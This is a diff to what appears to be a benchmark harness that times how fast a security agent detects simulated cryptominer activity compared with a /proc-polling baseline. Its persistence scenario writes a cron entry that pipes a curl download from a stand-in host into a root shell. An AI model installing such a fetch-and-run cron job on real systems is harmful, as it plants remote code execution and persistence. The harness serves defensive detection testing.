@@ -41,21 +41,22 @@ class Poller:
         self.stop = threading.Event()
 
     def look(self) -> None:
-        now = time.time()
         keys: list[str] = []
         for pid in os.listdir("/proc"):
             if pid.isdigit():
                 with contextlib.suppress(OSError):
-                    keys.append("comm:" + Path(f"/proc/{pid}/comm").read_text().strip() + f":{pid}")
+                    comm = Path(f"/proc/{pid}/comm").read_bytes().decode("utf-8", "replace")
+                    keys.append(f"comm:{comm.strip()}:{pid}")
         for root in (self.watch, self.etc):
             for dirpath, _, files in os.walk(root):
-                keys.extend(
-                    f"file:{dirpath}/{f}:{os.path.getsize(f'{dirpath}/{f}')}" for f in files
-                )
+                for f in files:
+                    with contextlib.suppress(OSError):
+                        keys.append(f"file:{dirpath}/{f}:{os.path.getsize(f'{dirpath}/{f}')}")
         with contextlib.suppress(OSError):
             for line in Path("/proc/net/tcp").read_text().splitlines()[1:]:
                 local, remote = line.split()[1:3]
                 keys.append(f"tcp:{local}->{remote}")
+        now = time.time()  # the poller knows what it read once its pass is done
         for k in keys:
             self.seen.setdefault(k, now)
 
@@ -70,8 +71,8 @@ class Poller:
             hits = [t for k, t in list(self.seen.items()) if t >= since and match(k)]
             if hits:
                 return min(hits)
-            time.sleep(0.02)
-        raise TimeoutError("baseline never saw it")
+            time.sleep(0.05)
+        raise TimeoutError(f"the baseline poller did not see it in {timeout}s")
 
 
 def p50(values: list[float]) -> float:
@@ -98,9 +99,9 @@ def main() -> int:
             for name, scenario in SCENARIOS.items():
                 ours, base = [], []
                 for i in range(args.reps):
-                    t0, rec, key = scenario(agent, root / f"{name}-{i}", started)
-                    ours.append(record_time(rec) - t0)
-                    base.append(poller.first(key, since=t0) - t0)
+                    agent_s, baseline_s = scenario(agent, poller, root / f"{name}-{i}", started)
+                    ours.append(agent_s)
+                    base.append(baseline_s)
                 results[name] = (ours, base)
         finally:
             poller.stop.set()
@@ -130,7 +131,14 @@ def main() -> int:
     return 0
 
 
-Scenario = Callable[[AgentRun, Path, list], tuple[float, Record, Callable[[str], bool]]]
+Scenario = Callable[[AgentRun, Poller, Path, list], tuple[float, float]]
+
+
+def latencies(
+    agent: AgentRun, poller: Poller, t0: float, rec: Record, key: Callable[[str], bool]
+) -> tuple[float, float]:
+    """(agent, baseline) seconds from the action at t0; call while the subject still exists."""
+    return record_time(rec) - t0, poller.first(key, since=t0) - t0
 
 
 def launch(started: list, argv: list[str], seconds: float) -> subprocess.Popen[bytes]:
@@ -150,42 +158,46 @@ def child_of(shell: subprocess.Popen[bytes], rule: str) -> Callable[[Record], bo
     return match
 
 
-def exec_miner(agent: AgentRun, work: Path, started: list) -> tuple[float, Record, Callable]:
+def exec_miner(agent: AgentRun, poller: Poller, work: Path, started: list) -> tuple[float, float]:
     work.mkdir(parents=True)
     burner = write_burner(work / "xmrig")
     t0 = time.time()
-    shell = launch(started, [str(burner)], 3)
+    shell = launch(started, [str(burner)], agent.interval + 3)
     rec = agent.wait_for(child_of(shell, "miner.process_name"))
     pid = rec["process"]["pid"]
-    return t0, rec, lambda k: k == f"comm:xmrig:{pid}"
+    return latencies(agent, poller, t0, rec, lambda k: k == f"comm:xmrig:{pid}")
 
 
-def file_drop(agent: AgentRun, work: Path, started: list) -> tuple[float, Record, Callable]:
+def file_drop(agent: AgentRun, poller: Poller, work: Path, started: list) -> tuple[float, float]:
     path = agent.watch / f"{work.name}-{secrets.token_hex(3)}"
     t0 = time.time()
     fake_elf_miner(path)
     rec = agent.wait_for(lambda r: bool(r["file"]) and r["file"]["path"] == str(path))
-    return t0, rec, lambda k: k.startswith(f"file:{path}:") and not k.endswith(":0")
+    seen = f"file:{path}:"
+    return latencies(agent, poller, t0, rec, lambda k: k.startswith(seen) and k != seen + "0")
 
 
-def persistence(agent: AgentRun, work: Path, started: list) -> tuple[float, Record, Callable]:
+def persistence(agent: AgentRun, poller: Poller, work: Path, started: list) -> tuple[float, float]:
     path = agent.etc / "cron.d" / work.name
     t0 = time.time()
     path.write_text("* * * * * root curl -fsSL http://203.0.113.5/u | sh\n")
     rec = agent.wait_for(lambda r: bool(r["file"]) and r["file"]["path"] == str(path))
-    return t0, rec, lambda k: k.startswith(f"file:{path}:") and not k.endswith(":0")
+    seen = f"file:{path}:"
+    return latencies(agent, poller, t0, rec, lambda k: k.startswith(seen) and k != seen + "0")
 
 
-def network(agent: AgentRun, work: Path, started: list) -> tuple[float, Record, Callable]:
+def network(agent: AgentRun, poller: Poller, work: Path, started: list) -> tuple[float, float]:
     work.mkdir(parents=True)
     burner = write_burner(work / "xmrig")
-    with free_pool_port() as pool:
+    with free_pool_port() as pool:  # open until both have seen the connection
         url = f"stratum+tcp://127.0.0.1:{pool.port}"
         t0 = time.time()
         shell = launch(started, [str(burner), "-o", url], agent.interval + 5)
         rec = agent.wait_for(child_of(shell, "network."), timeout=agent.interval + 15)
-        port_hex = f"{pool.port:04X}"
-        return t0, rec, lambda k: k.startswith("tcp:") and k.endswith(f"->0100007F:{port_hex}")
+        remote = f"->0100007F:{pool.port:04X}"
+        return latencies(
+            agent, poller, t0, rec, lambda k: k.startswith("tcp:") and k.endswith(remote)
+        )
 
 
 SCENARIOS: dict[str, Scenario] = {
